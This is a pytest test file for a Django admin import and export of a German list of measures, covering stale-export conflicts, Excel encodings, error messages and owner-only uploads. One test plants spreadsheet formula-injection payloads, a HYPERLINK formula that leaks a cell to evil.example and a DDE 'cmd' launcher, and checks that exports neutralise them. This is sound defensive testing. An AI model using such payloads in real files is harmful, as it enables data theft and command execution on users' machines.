"""Export of the Maßnahmen list and import of status, Ampel, progress and dates, through the admin.

The story of issue 13.2: the Büro exports the list; a colleague changes 5.2 / 1 a in list editing;
the old file comes back with another row changed. The import must not reset the colleague's
change, and where the file changes a measure that was changed since the export, the person
decides. Also German Excel files (13.11), readable errors, and the staged upload that only its
owner can open (12.11).
"""

import csv
import io
from datetime import date, timedelta

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from measures.choices import Ampel, Status
from measures.models import ImportVorschau, Massnahme
from measures.roles import BUERO
from tests.measures.admin_daten import LISTE, listen_post, plan_anlegen

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:measures_massnahme_export")
IMPORT = reverse("admin:measures_massnahme_import")
CSV_FORMAT, EXCEL_FORMAT, XLSX_FORMAT = "0", "1", "2"


@pytest.fixture
def admin_plan(personen):
    return plan_anlegen(personen)


@pytest.fixture
def buero_client(client, personen):
    client.force_login(personen.buero)
    return client


@pytest.fixture
def zweite_kollegin(personen, django_user_model):
    """Another member of the Büro: same rights, but not the uploader."""
    user = django_user_model.objects.create_user("buero2", "b2@example.org", "x", is_staff=True)
    user.groups.add(Group.objects.get(name=BUERO))
    return user


def _export(client, format_, filter_=""):
    seite = client.get(EXPORT + filter_)
    assert seite.status_code == 200
    response = client.post(EXPORT + filter_, {"format": format_, "resource": "0"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def _csv_zeilen(inhalt, trenner=","):
    return list(csv.reader(io.StringIO(inhalt.decode("utf-8-sig")), delimiter=trenner))


def _csv_bytes(zeilen, trenner=",", kodierung="utf-8"):
    puffer = io.StringIO()
    csv.writer(puffer, delimiter=trenner).writerows(zeilen)
    return puffer.getvalue().encode(kodierung)


def _hochladen(client, inhalt, name="stand.csv"):
    return client.post(IMPORT, {"datei": SimpleUploadedFile(name, inhalt, "text/csv")})


def _vorschau(client, inhalt, name="stand.csv"):
    """Upload and follow to the preview; returns (preview URL, response)."""
    antwort = _hochladen(client, inhalt, name)
    assert antwort.status_code == 302, antwort.context and antwort.context.get("ergebnis")
    return antwort.url, client.get(antwort.url)


def _bestaetigen(client, url, vorschau, **entscheidungen):
    """POST the preview's form as a browser would: hidden versions plus the chosen radios."""
    ergebnis = vorschau.context["ergebnis"]
    daten = {f"version_{z.nummer}": z.version_aktuell for z in ergebnis.zeilen if z.geaendert}
    daten.update(entscheidungen)
    return client.post(url, daten)


def _listen_aendern(client, massnahme, **werte):
    seite = client.get(LISTE)
    antwort = client.post(LISTE, listen_post(seite, {massnahme.pk: werte}))
    assert antwort.status_code == 302
    massnahme.refresh_from_db()


def _zeile(zeilen, referenz):
    kopf = zeilen[0]
    return next(z for z in zeilen[1:] if z[kopf.index("Referenz")] == referenz)


def _setzen(zeilen, referenz, spalte, wert):
    _zeile(zeilen, referenz)[zeilen[0].index(spalte)] = wert


# --- 13.2: the old file does not reset newer changes ---------------------------------------


def test_old_export_does_not_reset_a_change_made_since_in_list_editing(
    buero_client, admin_plan, personen
):
    """Export; a colleague sets 5.2 / 1 a to „in Umsetzung“ 60 %; the old file comes back
    with only 5.2 / 2 a changed: 5.2 / 1 a keeps the colleague's state."""
    zeilen = _csv_zeilen(_export(buero_client, CSV_FORMAT))
    m3, m4 = admin_plan.m3, admin_plan.m4
    _listen_aendern(buero_client, m3, status=Status.IN_UMSETZUNG, fortschritt=60)
    assert (m3.status, m3.fortschritt, m3.version) == (Status.IN_UMSETZUNG, 60, 2)

    _setzen(zeilen, "5.2 / 2 a", "Ampel", "kritisch")
    url, vorschau = _vorschau(buero_client, _csv_bytes(zeilen))

    ergebnis = vorschau.context["ergebnis"]
    assert [z.massnahme.referenz for z in ergebnis.geaenderte] == ["5.2 / 2 a"]
    assert ergebnis.konflikte == []
    assert "5.2 / 1 a" in [z.massnahme.referenz for z in ergebnis.unveraenderte]
    inhalt = vorschau.content.decode()
    assert '<del class="import-alt">unbewertet</del>' in inhalt
    assert '<ins class="import-neu">kritisch</ins>' in inhalt

    antwort = _bestaetigen(buero_client, url, vorschau)
    assert antwort.status_code == 302
    m3.refresh_from_db()
    m4.refresh_from_db()
    assert (m3.status, m3.fortschritt, m3.version) == (Status.IN_UMSETZUNG, 60, 2)
    assert (m4.ampel, m4.version) == (Ampel.KRITISCH, 2)
    assert m4.history.first().history_change_reason == "Import aus „stand.csv“"
    assert m4.history.first().history_user == personen.buero


@pytest.fixture
def konflikt(buero_client, admin_plan):
    """The file changes 5.2 / 1 a, which a colleague changed after the export."""
    zeilen = _csv_zeilen(_export(buero_client, CSV_FORMAT))
    _listen_aendern(buero_client, admin_plan.m3, status=Status.IN_UMSETZUNG, fortschritt=60)
    _setzen(zeilen, "5.2 / 1 a", "Fortschritt (%)", "30")
    _setzen(zeilen, "5.2 / 2 a", "Ampel", "kritisch")
    url, vorschau = _vorschau(buero_client, _csv_bytes(zeilen))
    return url, vorschau


def test_a_row_changed_since_the_export_is_a_conflict_shown_with_both_values(konflikt):
    _url, vorschau = konflikt
    ergebnis = vorschau.context["ergebnis"]
    assert [z.massnahme.referenz for z in ergebnis.konflikte] == ["5.2 / 1 a"]
    (zelle,) = ergebnis.konflikte[0].zellen  # only the changed cell, not status
    assert (zelle.spalte, zelle.datei, zelle.aktuell, zelle.beim_export) == (
        "Fortschritt (%)",
        30,
        60,
        0,
    )
    inhalt = vorschau.content.decode()
    assert '<span class="import-datei">30</span>' in inhalt
    assert '<span class="import-aktuell">60</span>' in inhalt
    assert "zuletzt geändert von buero" in inhalt
    assert " style=" not in inhalt


def test_nothing_is_applied_until_each_conflict_is_decided(buero_client, admin_plan, konflikt):
    url, vorschau = konflikt
    antwort = _bestaetigen(buero_client, url, vorschau)
    assert antwort.status_code == 200
    assert "Bitte entscheiden Sie" in antwort.content.decode()
    m3, m4 = (Massnahme.objects.get(pk=m.pk) for m in (admin_plan.m3, admin_plan.m4))
    assert (m3.fortschritt, m4.ampel) == (60, Ampel.UNBEWERTET)  # not even the clean row
    assert ImportVorschau.objects.count() == 1  # still there to decide


def test_keeping_the_current_state_applies_only_the_other_rows(buero_client, admin_plan, konflikt):
    url, vorschau = konflikt
    nummer = vorschau.context["ergebnis"].konflikte[0].nummer
    antwort = _bestaetigen(buero_client, url, vorschau, **{f"entscheidung_{nummer}": "aktuell"})
    assert antwort.status_code == 302
    m3, m4 = (Massnahme.objects.get(pk=m.pk) for m in (admin_plan.m3, admin_plan.m4))
    assert (m3.status, m3.fortschritt, m3.version) == (Status.IN_UMSETZUNG, 60, 2)
    assert m4.ampel == Ampel.KRITISCH
    assert ImportVorschau.objects.count() == 0


def test_taking_the_file_applies_its_changed_cell_only(buero_client, admin_plan, konflikt):
    url, vorschau = konflikt
    nummer = vorschau.context["ergebnis"].konflikte[0].nummer
    antwort = _bestaetigen(buero_client, url, vorschau, **{f"entscheidung_{nummer}": "datei"})
    assert antwort.status_code == 302
    m3 = Massnahme.objects.get(pk=admin_plan.m3.pk)
    # The file's progress; the colleague's status stays (the file did not change it).
    assert (m3.status, m3.fortschritt, m3.version) == (Status.IN_UMSETZUNG, 30, 3)


def test_a_save_between_preview_and_confirmation_stops_the_whole_import(buero_client, admin_plan):
    zeilen = _csv_zeilen(_export(buero_client, CSV_FORMAT))
    _setzen(zeilen, "5.2 / 1 a", "Ampel", "gefährdet")
    _setzen(zeilen, "5.2 / 2 a", "Ampel", "kritisch")
    url, vorschau = _vorschau(buero_client, _csv_bytes(zeilen))
    assert len(vorschau.context["ergebnis"].geaenderte) == 2
    _listen_aendern(buero_client, admin_plan.m3, fortschritt=10)  # after the preview

    antwort = _bestaetigen(buero_client, url, vorschau)

    assert antwort.status_code == 200
    assert "nach der Vorschau von anderer Seite geändert" in antwort.content.decode()
    m3, m4 = (Massnahme.objects.get(pk=m.pk) for m in (admin_plan.m3, admin_plan.m4))
    assert (m3.ampel, m3.fortschritt, m4.ampel) == (Ampel.UNBEWERTET, 10, Ampel.UNBEWERTET)
    # The fresh preview now shows 5.2 / 1 a as a conflict.
    assert [z.massnahme.referenz for z in antwort.context["ergebnis"].konflikte] == ["5.2 / 1 a"]


def test_a_file_without_version_column_makes_every_change_a_conflict(buero_client, admin_plan):
    datei = _csv_bytes([["Referenz", "Status"], ["5.2 / 1 a", "in Planung"]])
    url, vorschau = _vorschau(buero_client, datei)
    ergebnis = vorschau.context["ergebnis"]
    assert [z.massnahme.referenz for z in ergebnis.konflikte] == ["5.2 / 1 a"]
    assert "unbekannt (ohne Version)" in vorschau.content.decode()
    antwort = _bestaetigen(buero_client, url, vorschau, alle_konflikte="datei")
    assert antwort.status_code == 302
    assert Massnahme.objects.get(pk=admin_plan.m3.pk).status == Status.IN_PLANUNG


def test_reimporting_an_unchanged_export_changes_nothing(buero_client, admin_plan):
    for format_, name in [(CSV_FORMAT, "a.csv"), (EXCEL_FORMAT, "b.csv"), (XLSX_FORMAT, "c.xlsx")]:
        inhalt = _export(buero_client, format_)
        antwort = _hochladen(buero_client, inhalt, name)
        ergebnis = antwort.context["ergebnis"]
        assert len(ergebnis.unveraenderte) == 4, (name, ergebnis.fehler)
        assert "Nichts zu tun" in antwort.content.decode()
        assert ImportVorschau.objects.count() == 0  # nothing to confirm, nothing kept


# --- Export ---------------------------------------------------------------------------------


def test_csv_export_holds_exactly_the_filtered_rows_with_their_version(buero_client, admin_plan):
    zeilen = _csv_zeilen(_export(buero_client, CSV_FORMAT, "?seite=extern"))
    kopf = zeilen[0]
    assert [z[kopf.index("Referenz")] for z in zeilen[1:]] == ["4.1.2 / 1 b", "5.2 / 2 a"]
    erste = dict(zip(kopf, zeilen[1], strict=True))
    assert erste["Status"] == "in Umsetzung"
    assert erste["Ampel"] == "kritisch"
    assert erste["Fortschritt (%)"] == "40"
    assert erste["federführend"] == "Verein B"
    assert erste["Maßnahme"] == "Sprachkurse für Neuzugewanderte ausbauen"
    assert erste["Version"] == "1"


def test_excel_export_is_semicolon_separated_utf8_with_bom(buero_client, admin_plan):
    inhalt = _export(buero_client, EXCEL_FORMAT)
    assert inhalt.startswith("\ufeff".encode())
    assert b"\r\n" in inhalt
    zeilen = _csv_zeilen(inhalt, trenner=";")
    assert zeilen[0][:3] == ["Referenz", "Handlungsfeld", "Maßnahme"]
    assert len(zeilen) == 5


def test_xlsx_export_keeps_numbers_and_dates_native(buero_client, admin_plan):
    inhalt = _export(buero_client, XLSX_FORMAT, "?ueberfaellig=ja")
    blatt = openpyxl.load_workbook(io.BytesIO(inhalt)).active
    zeilen = list(blatt.iter_rows(values_only=True))
    kopf = list(zeilen[0])
    assert [z[kopf.index("Referenz")] for z in zeilen[1:]] == ["4.1.2 / 1 b"]
    assert zeilen[1][kopf.index("Fortschritt (%)")] == 40
    assert zeilen[1][kopf.index("Version")] == 1
    assert zeilen[1][kopf.index("Zieldatum")].date() == admin_plan.m2.zieldatum


def test_exports_neutralise_formula_cells(buero_client, admin_plan):
    """12.7: a text that starts like a formula is text in every export format."""
    Massnahme.objects.filter(pk=admin_plan.m1.pk).update(
        text='=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    )
    Massnahme.objects.filter(pk=admin_plan.m2.pk).update(text="-2+3+cmd|' /C calc'!A0")
    for format_, trenner in [(CSV_FORMAT, ","), (EXCEL_FORMAT, ";")]:
        zeilen = _csv_zeilen(_export(buero_client, format_), trenner)
        texte = {z[0]: z[2] for z in zeilen[1:]}
        assert texte["4.1.2 / 1 a"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
        assert texte["4.1.2 / 1 b"] == "'-2+3+cmd|' /C calc'!A0"
    blatt = openpyxl.load_workbook(io.BytesIO(_export(buero_client, XLSX_FORMAT))).active
    zellen = [zeile[2] for zeile in blatt.iter_rows(min_row=2)]
    assert all(z.data_type == "s" for z in zellen)
    assert zellen[0].value.startswith("'=HYPERLINK")


# --- 13.11: German Excel files and readable errors -----------------------------------------


def test_german_excel_csv_in_windows_1252_with_decimal_comma_is_read(buero_client, admin_plan):
    datei = _csv_bytes(
        [
            ["Referenz", "Status", "Ampel", "Fortschritt (%)", "Zieldatum"],
            ["5.2 / 1 a", "in Umsetzung", "gefährdet", "60,0", "31.12.2027"],
        ],
        trenner=";",
        kodierung="cp1252",
    )
    url, vorschau = _vorschau(buero_client, datei)
    _bestaetigen(buero_client, url, vorschau, alle_konflikte="datei")
    m3 = Massnahme.objects.get(pk=admin_plan.m3.pk)
    assert (m3.status, m3.ampel, m3.fortschritt, m3.zieldatum) == (
        Status.IN_UMSETZUNG,
        Ampel.GEFAEHRDET,
        60,
        date(2027, 12, 31),
    )


def test_utf8_with_bom_and_semicolons_is_read(buero_client, admin_plan):
    datei = "\ufeff".encode() + _csv_bytes(
        [["Referenz", "Ampel"], ["5.2-1a", "gefährdet"]], trenner=";"
    )
    _url, vorschau = _vorschau(buero_client, datei)
    assert vorschau.context["ergebnis"].konflikte[0].zellen[0].datei == Ampel.GEFAEHRDET


@pytest.mark.parametrize(
    "zeile, spalte, wert, erwartet",
    [
        (["9.9 / 9 z", "umgesetzt", "100"], "Referenz", "9.9 / 9 z", "keine Maßnahme"),
        (["5.2 / 1 a", "fertig", "10"], "Status", "fertig", "„in Umsetzung“"),
        (["5.2 / 1 a", "umgesetzt", "viel"], "Fortschritt (%)", "viel", "ganze Zahl von 0 bis 100"),
        (["5.2 / 1 a", "umgesetzt", "150"], "Fortschritt (%)", "150", "ganze Zahl von 0 bis 100"),
        (["5.2 / 1 a", "umgesetzt", "12,5"], "Fortschritt (%)", "12,5", "ganze Zahl"),
    ],
)
def test_each_error_names_row_column_value_and_what_is_expected(
    buero_client, admin_plan, zeile, spalte, wert, erwartet
):
    vorher = list(Massnahme.objects.values_list("status", "fortschritt", "version"))
    datei = _csv_bytes([["Referenz", "Status", "Fortschritt (%)"], zeile], trenner=";")
    antwort = _hochladen(buero_client, datei)
    assert antwort.status_code == 200
    (fehler,) = antwort.context["ergebnis"].fehler
    assert (fehler.zeile, fehler.spalte, fehler.wert) == (2, spalte, wert)
    assert erwartet in fehler.meldung
    inhalt = antwort.content.decode()
    assert "ConversionSyntax" not in inhalt and "trat auf" not in inhalt
    assert str(fehler).startswith(f"Zeile 2, Spalte „{spalte}“, Wert „{wert}“: ")
    assert list(Massnahme.objects.values_list("status", "fortschritt", "version")) == vorher
    assert ImportVorschau.objects.count() == 0


def test_one_bad_row_stops_the_whole_file(buero_client, admin_plan):
    datei = _csv_bytes(
        [
            ["Referenz", "Status", "Ampel", "Fortschritt (%)", "Beginn"],
            ["4.1.2 / 1 b", "umgesetzt", "im Plan", "100", "01.02.2025"],
            ["5.2 / 1 a", "in Planung", "im Plan", "10", "gestern"],
        ]
    )
    antwort = _hochladen(buero_client, datei)
    (fehler,) = antwort.context["ergebnis"].fehler
    assert (fehler.zeile, fehler.spalte, fehler.wert) == (3, "Beginn", "gestern")
    assert "Import bestätigen" not in antwort.content.decode()
    assert Massnahme.objects.get(pk=admin_plan.m2.pk).status == Status.IN_UMSETZUNG


@pytest.mark.parametrize(
    "inhalt, erwartet",
    [
        (b"Referenz;Status\n5.2 / 1 a;\x81\x8d\n", "weder in UTF-8 noch in Windows-1252"),
        (b"Referenz;Status\n5.2 / 1 a;in\x00Planung\n", "NUL-Zeichen"),
        (b"Status;Ampel\numgesetzt;im Plan\n", "Referenz"),
        (b'Referenz;Status\n"5.2 / 1 a;' + b"x" * 200_000 + b"\n", "länger als"),
    ],
)
def test_unreadable_files_get_a_german_message(buero_client, admin_plan, inhalt, erwartet):
    antwort = _hochladen(buero_client, inhalt)
    assert antwort.status_code == 200
    assert erwartet in str(antwort.context["ergebnis"].fehler[0])


def test_an_empty_file_is_refused_by_the_form(buero_client, admin_plan):
    antwort = _hochladen(buero_client, b"")
    assert antwort.status_code == 200
    assert "leer" in str(antwort.context["formular"].errors["datei"])


def test_xlsx_with_real_dates_and_numbers_is_read(buero_client, admin_plan):
    mappe = openpyxl.Workbook()
    mappe.active.append(["Referenz", "Fortschritt (%)", "Beginn"])
    mappe.active.append(["5.2 / 1 a", 60, date(2026, 3, 1)])
    puffer = io.BytesIO()
    mappe.save(puffer)
    url, vorschau = _vorschau(buero_client, puffer.getvalue(), "stand.xlsx")
    _bestaetigen(buero_client, url, vorschau, alle_konflikte="datei")
    m3 = Massnahme.objects.get(pk=admin_plan.m3.pk)
    assert (m3.fortschritt, m3.beginn) == (60, date(2026, 3, 1))


# --- 12.11: the staged upload belongs to its uploader ----------------------------------------


def test_another_staff_member_cannot_open_confirm_or_cancel_my_upload(
    client, buero_client, admin_plan, zweite_kollegin
):
    zeilen = _csv_zeilen(_export(buero_client, CSV_FORMAT))
    _setzen(zeilen, "5.2 / 1 a", "Ampel", "gefährdet")
    url, vorschau = _vorschau(buero_client, _csv_bytes(zeilen))
    pk = vorschau.context["vorschau"].pk

    andere = client.__class__()
    andere.force_login(zweite_kollegin)
    assert andere.get(url).status_code == 404
    assert andere.post(url, {f"version_{2 + 2}": 1}).status_code == 404
    abbrechen = reverse("admin:measures_massnahme_import_abbrechen", args=[pk])
    assert andere.post(abbrechen).status_code == 404
    assert Massnahme.objects.get(pk=admin_plan.m3.pk).ampel == Ampel.UNBEWERTET
    assert ImportVorschau.objects.filter(pk=pk).exists()
    # The colleague can import files of her own.
    assert andere.get(IMPORT).status_code == 200


def test_the_upload_is_stored_in_the_database_and_deleted_on_confirm(
    buero_client, admin_plan, personen, tmp_path, monkeypatch
):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    zeilen = _csv_zeilen(_export(buero_client, CSV_FORMAT))
    _setzen(zeilen, "5.2 / 1 a", "Ampel", "gefährdet")
    url, vorschau = _vorschau(buero_client, _csv_bytes(zeilen))
    gespeichert = ImportVorschau.objects.get()
    assert gespeichert.besitzer == personen.buero
    assert gespeichert.ablauf > timezone.now()
    assert list(tmp_path.iterdir()) == []  # nothing in the shared temp folder
    _bestaetigen(buero_client, url, vorschau)
    assert ImportVorschau.objects.count() == 0
    assert buero_client.get(url).status_code == 404  # used up


def test_cancel_deletes_the_upload(buero_client, admin_plan):
    datei = _csv_bytes([["Referenz", "Ampel"], ["5.2 / 1 a", "gefährdet"]])
    _url, vorschau = _vorschau(buero_client, datei)
    pk = vorschau.context["vorschau"].pk
    antwort = buero_client.post(reverse("admin:measures_massnahme_import_abbrechen", args=[pk]))
    assert antwort.status_code == 302
    assert ImportVorschau.objects.count() == 0


def test_expired_uploads_are_gone_and_cleaned_up(buero_client, admin_plan, personen):
    datei = _csv_bytes([["Referenz", "Ampel"], ["5.2 / 1 a", "gefährdet"]])
    url, _vorschau_antwort = _vorschau(buero_client, datei)
    ImportVorschau.objects.update(ablauf=timezone.now() - timedelta(minutes=1))
    assert buero_client.get(url).status_code == 404
    ausgabe = io.StringIO()
    call_command("importvorschauen_loeschen", stdout=ausgabe)
    assert ImportVorschau.objects.count() == 0
    assert "1 abgelaufene" in ausgabe.getvalue()


def test_partners_and_the_council_cannot_import(client, personen):
    for person in (personen.partner_a, personen.buergerschaft):
        client.force_login(person)
        assert client.get(IMPORT).status_code in (302, 403)


def test_the_list_links_to_import_and_export(buero_client, admin_plan):
    inhalt = buero_client.get(LISTE).content.decode()
    assert IMPORT in inhalt and EXPORT in inhalt


def test_import_and_export_pages_address_people_as_sie(buero_client, admin_plan):
    """13.14: the portal says „Sie“; django-import-export's own import texts said „du“."""
    import re

    du = re.compile(r"\b(du|dein|deine|deiner|dir|Stelle sicher|klicke|korrigiere)\b")
    seiten = [buero_client.get(IMPORT), buero_client.get(EXPORT)]
    seiten.append(_hochladen(buero_client, _csv_bytes([["Referenz", "Status"], ["x", "y"]])))
    datei = _csv_bytes([["Referenz", "Status"], ["5.2 / 1 a", "in Planung"]])
    seiten.append(_vorschau(buero_client, datei)[1])
    for seite in seiten:
        assert seite.status_code == 200
        text = re.sub(r"<[^>]+>", " ", seite.content.decode())  # what people read
        assert not du.search(text), du.search(text)


def test_a_measure_twice_in_the_file_and_a_bad_version_are_errors(buero_client, admin_plan):
    datei = _csv_bytes(
        [
            ["Referenz", "Ampel", "Version", "eine eigene Spalte"],
            ["5.2 / 1 a", "kritisch", "1", "wird ignoriert"],
            ["5.2-1a", "gefährdet", "1", ""],
            ["5.2 / 2 a", "kritisch", "zwei", ""],
        ]
    )
    antwort = _hochladen(buero_client, datei)
    fehler = antwort.context["ergebnis"].fehler
    assert [(f.zeile, f.spalte, f.wert) for f in fehler] == [
        (3, "Referenz", "5.2-1a"),
        (4, "Version", "zwei"),
    ]
    assert "schon in Zeile 2" in fehler[0].meldung
    assert "Versionsnummer aus dem Export" in fehler[1].meldung
